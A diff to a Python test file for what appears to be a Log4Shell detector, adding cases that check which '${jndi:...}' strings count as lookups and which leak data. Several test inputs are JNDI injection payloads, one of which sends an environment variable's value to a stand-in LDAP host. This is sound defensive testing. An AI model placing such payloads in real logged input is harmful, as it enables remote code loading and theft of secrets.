@@ -265,6 +265,9 @@ class Ends(unittest.TestCase):
         for text, why in (("${ jndi:ldap://x/a}", 'the name is " jndi", with a space before it'),
                           ("${jndi", "the text ends before the colon"),
                           ("${jndii:ldap://x/a}", 'the name is "jndii" and not jndi'),
+                          ("${jndi_x:ldap://x/a}", 'the name is "jndi_x" and not jndi'),
+                          ("${jndi\r:ldap://x/a}", 'behind jndi stands "\\x0d" where a colon has to be'),
+                          ("${jndi\x11:ldap://x/a}", 'behind jndi stands "\\x11" where a colon has to be'),
                           ("${jndi;ldap://x/a}", 'behind jndi stands ";" where a colon has to be'),
                           ("${jndi:-ldap://x/a}", ":- stands behind jndi"),
                           ("$${jndi:ldap://x/a}", "in $${jndi the first dollar makes the rest plain text"),
@@ -304,6 +307,11 @@ class Ends(unittest.TestCase):
             for leak in leaks:
                 self.assertIn("  leaks        " + leak, out)
             self.assertIn("--outbound LOG --ioc %s LOGS\n" % ioc, out)
+
+    def test_a_letter_leaks_where_it_is_no_part_of_a_word(self):
+        for behind, leaks in (("vil", 0), ("9", 0), (".", 1), ("\x11", 1), ("_", 1)):
+            (one,) = judged([("${jndi:ldap://h.example/${env:X:-e}%s}" % behind).encode()])
+            self.assertEqual(len(one["leaks"]), leaks, one)
 
     def test_a_text_beyond_the_budget_of_a_line_is_still_followed(self):
         text = b"${jndi:ldap://" + b"${env:A}." * (450 << 10) + b"h.example/}"
